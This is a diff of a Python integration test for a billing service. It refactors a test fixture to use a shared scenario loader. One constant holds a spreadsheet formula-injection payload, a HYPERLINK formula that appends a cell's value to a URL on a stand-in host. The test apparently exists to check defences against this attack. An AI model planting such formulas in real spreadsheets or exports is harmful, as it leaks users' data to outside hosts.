@@ -14,21 +14,17 @@ import pytest
 
 from tests.integration.billing.conftest import billing_get
 from tests.scenarios import path
-from tests.stack import World
 
 HOSTILE = '=HYPERLINK("http://x.example/?a="&C2,"点此查看")'
 FUND = "putuo-childcare-fund"
 
 
 @pytest.fixture(scope="module")
-def world(infra, tmp_path_factory):
-    world = World(tmp_path_factory.mktemp("world")).start()
-    world.cli("scenario", "load", str(path("bank-round-trip.yaml")))
-    yield world
-    world.close()
+def world(world_of):
+    return world_of(path("bank-round-trip.yaml"))
 
 
-def _client(world: World, service: str, key: str | None = None) -> httpx.Client:
+def _client(world, service: str, key: str | None = None) -> httpx.Client:
     key = key or (world.finance_key if service == "billing" else world.admin_key)
     return httpx.Client(base_url=world[service].url, headers={"Authorization": f"Bearer {key}"}, timeout=120)
 
